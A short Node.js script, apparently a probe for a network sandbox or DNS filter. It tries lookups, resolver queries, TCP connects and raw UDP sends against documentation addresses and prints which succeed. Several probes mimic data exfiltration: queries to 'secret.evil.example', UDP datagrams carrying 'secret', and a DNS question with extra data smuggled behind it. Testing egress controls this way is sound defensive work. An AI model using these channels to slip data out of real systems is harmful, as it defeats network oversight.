// Queries a nameserver with every API of Node.js, and prints the results.
const dgram = require('dgram');
const dns = require('dns');
const net = require('net');

const question = (name, ...more) => Buffer.concat([
  Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])),
  Buffer.from([0, 0, 1, 0, 1]),
  ...more,
]);
const outcome = (call) => new Promise((resolve) => call((error, value) => resolve(error ? error.code : [value].flat()[0])));
const connect = (host, port) => outcome((done) => net.connect({ host, port, autoSelectFamily: false }).on('error', done).on('connect', () => done(null, 'connected')));
const send = (data) => outcome((done) => {
  const socket = dgram.createSocket('udp4');
  socket.send(data, 53, '203.0.113.53', (error) => { socket.close(); done(error, 'sent'); });
});
const sendConnected = (data) => outcome((done) => {
  const socket = dgram.createSocket('udp4').on('error', done);
  socket.connect(53, '203.0.113.53', () => socket.send(data, (error) => { socket.close(); done(error, 'sent'); }));
});

async function main() {
  const answers = {};
  const resolver = new dns.Resolver();
  resolver.setServers(['203.0.113.53']);
  answers['connect before'] = await connect('203.0.113.20', 80);
  answers['lookup a.example'] = await outcome((done) => dns.lookup('a.example', done));
  answers.connect = await connect('203.0.113.20', 80);
  answers['resolve4 a.example'] = await outcome((done) => dns.resolve4('a.example', done));
  answers['lookup secret.evil.example'] = await outcome((done) => dns.lookup('secret.evil.example', done));
  answers['resolve4 secret.evil.example'] = await outcome((done) => dns.resolve4('secret.evil.example', done));
  answers['resolveTxt secret.evil.example'] = await outcome((done) => dns.resolveTxt('secret.evil.example', done));
  answers['reverse 203.0.113.99'] = await outcome((done) => dns.reverse('203.0.113.99', done));
  answers['Resolver secret.evil.example'] = await outcome((done) => resolver.resolve4('secret.evil.example', done));
  answers.datagram = await send(Buffer.from('secret'));
  answers['connected datagram'] = await sendConnected(Buffer.from('secret'));
  answers['question with more behind it'] = await send(question('a.example', Buffer.from('secret')));
  answers['TCP to the nameserver'] = await connect('203.0.113.53', 53);
  answers['resolve4 b.example'] = await outcome((done) => dns.resolve4('b.example', done));
  answers['connect to b.example:443'] = await connect('203.0.113.21', 443);
  answers['connect to b.example:80'] = await connect('203.0.113.21', 80);
  console.log(JSON.stringify(answers));
}

void main();
